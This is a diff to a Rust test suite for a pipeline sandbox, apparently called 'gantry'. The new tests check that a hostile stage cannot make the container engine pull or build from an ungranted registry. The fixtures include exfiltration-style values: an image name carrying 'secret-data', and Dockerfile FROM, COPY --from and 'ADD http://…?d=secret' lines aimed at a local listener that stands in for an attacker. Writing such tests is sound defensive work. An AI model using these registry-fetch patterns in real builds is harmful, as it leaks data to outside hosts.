@@ -357,6 +357,105 @@ fn engine_build_paths_are_checked_before_the_filesystem_is_touched() {
     assert_eq!(answers[0], answers[1], "the answers must not tell the two apart");
 }
 
+/// Whether anything connected to `listener` (non-blocking) since it was bound.
+fn was_contacted(listener: &std::net::TcpListener) -> bool {
+    listener.set_nonblocking(true).unwrap();
+    listener.accept().is_ok()
+}
+
+#[test]
+fn the_engine_fetches_only_from_granted_registries() {
+    // A server of the stage's choosing: the image name would carry the data.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let registry = listener.local_addr().unwrap().to_string();
+    let exfil = format!("{registry}/secret-data-abc123:1");
+    let ws = Workspace::new();
+    let engine_only = "    permissions: { engine: true }\n";
+
+    // pull
+    let out = attack(&ws, "engine", &exfil, engine_only);
+    failed_with(
+        &out,
+        "denied",
+        &format!(
+            "not allowed to make the container engine fetch from registry `{registry}` (pulling `{exfil}`): grant it with `stages[0].permissions.registries: [\"{registry}\"]`"
+        ),
+    );
+    // A base image, directly or through a build argument's default.
+    for dockerfile in [
+        format!("FROM {exfil}\n"),
+        format!("ARG BASE={exfil}\nFROM ${{BASE}} AS b\nFROM scratch\nCOPY --from=b /x /x\n"),
+        format!("FROM scratch\nCOPY --from={exfil} /x /x\n"),
+    ] {
+        ws.write("ctx/Dockerfile", &dockerfile);
+        let out = contain(
+            &ws,
+            &format!(
+                "  - name: evil\n    uses: \"{{hostile}}\"\n    with: {{ attack: engine-build, target: Dockerfile, args: [ctx] }}\n{engine_only}"
+            ),
+        );
+        failed_with(
+            &out,
+            "denied",
+            &format!("fetch from registry `{registry}` (the build's image `{exfil}`)"),
+        );
+    }
+    // What the engine would download itself, or cannot be known before the build.
+    for (dockerfile, says) in [
+        (
+            format!("FROM scratch\nADD http://{registry}/x?d=secret /x\n"),
+            "Dockerfile line 2: `ADD http://",
+        ),
+        (
+            "FROM ${REG}/app:1\n".to_string(),
+            "Dockerfile line 1: `${REG}/app:1`: the build argument `REG` has no value",
+        ),
+    ] {
+        ws.write("ctx/Dockerfile", &dockerfile);
+        let out = contain(
+            &ws,
+            &format!(
+                "  - name: evil\n    uses: \"{{hostile}}\"\n    with: {{ attack: engine-build, target: Dockerfile, args: [ctx] }}\n{engine_only}"
+            ),
+        );
+        failed_with(&out, "failed", says);
+    }
+    assert!(!was_contacted(&listener), "the engine was sent to an ungranted registry");
+
+    // Granted, the pull goes to the engine (and from there to the registry when
+    // an engine runs).
+    let out = attack(
+        &ws,
+        "engine",
+        &exfil,
+        &format!("    permissions: {{ engine: true, registries: [\"{registry}\"] }}\n"),
+    );
+    let line = out.stage_line("evil");
+    assert!(
+        line.contains(&format!("pulling `{exfil}` failed"))
+            || line.contains("transient: cannot reach the Docker engine"),
+        "{line}"
+    );
+}
+
+#[test]
+fn registries_are_granted_as_host_and_port_with_the_engine() {
+    let ws = Workspace::new();
+    ws.manifest(
+        "pipeline: p\nstages:\n  - name: a\n    uses: \"{hostile}\"\n    permissions:\n      registries: [\"https://myacr.azurecr.io\"]\n",
+    );
+    let out = ws.gantry(&["validate", "pipeline.yaml"]);
+    assert_eq!(out.code, Some(2), "{}", out.all());
+    for text in [
+        "stages[0].permissions.registries[0]",
+        "`https://myacr.azurecr.io` is a URL; registries are granted as host[:port]",
+        "write `myacr.azurecr.io`",
+        "registries are reached through the container engine, which this stage is not granted",
+    ] {
+        assert!(out.stderr.contains(text), "{text}: {}", out.stderr);
+    }
+}
+
 #[test]
 fn an_artifact_outside_the_workspace_is_denied() {
     let ws = Workspace::new();
@@ -491,7 +590,7 @@ fn the_container_engine_is_denied_unless_granted() {
         &ws,
         "engine",
         "127.0.0.1:1/gantry-none:1",
-        "    permissions: { engine: true }\n",
+        "    permissions: { engine: true, registries: [\"127.0.0.1:1\"] }\n",
     );
     let line = out.stage_line("evil");
     assert!(
